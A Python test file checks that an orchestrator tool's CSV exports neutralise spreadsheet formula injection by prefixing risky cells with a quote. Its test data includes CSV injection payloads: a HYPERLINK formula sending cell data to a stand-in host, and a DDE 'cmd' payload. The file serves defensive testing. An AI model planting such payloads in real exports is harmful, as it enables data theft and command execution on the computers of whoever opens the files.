"""No export hands a spreadsheet a formula: file names, suppliers' texts and staff comments
that start like one are written as text.

Before: ``exceptions list --csv`` wrote a file name such as ``=HYPERLINK(…)`` and a comment
such as ``+cmd|…`` as they were; Excel runs them when the auditor opens the file.
"""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner

from orchestrator import audit, exceptions, services
from orchestrator.commands.audit import audit as audit_cli
from orchestrator.commands.exceptions import exceptions as exceptions_cli
from orchestrator.config import Settings
from orchestrator.db import transaction
from orchestrator.spreadsheet import safe_cell

HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]


@pytest.mark.parametrize("value", [*HOSTILE, "\t=1", "\r=1"])
def test_a_cell_that_could_start_a_formula_becomes_text(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-1250.00", "+47", "faktura.xml", "", None, 12, "a=b"])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def test_exceptions_csv_and_audit_export_neutralise_every_cell(cli_env: Settings) -> None:
    with transaction(cli_env.database_url) as session:
        for name in HOSTILE:
            exceptions.record(
                session, code="NOT-XML", step="receipt", actor="robot:receipt", file_name=name
            )
        audit.append(
            session, actor="user:kari", action="test", object_type="file", object_id=HOSTILE[1]
        )
    first = services.list_exceptions(cli_env)[0]["id"]
    services.resolve_exception(cli_env, first, action="reject", user="kari", comment=HOSTILE[0])

    listing = CliRunner().invoke(exceptions_cli, ["list", "--csv"])
    exported = CliRunner().invoke(audit_cli, ["export"])

    for output in (listing.stdout, exported.stdout):
        cells = [cell for row in csv.reader(io.StringIO(output)) for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
        assert not [c for c in cells if c[:1] == "-" and not c[1:].replace(".", "").isdigit()]
    rows = list(csv.DictReader(io.StringIO(listing.stdout)))
    assert sorted(row["file"] for row in rows) == sorted("'" + name for name in HOSTILE)
    assert "'" + HOSTILE[0] in [row["comment"] for row in rows]
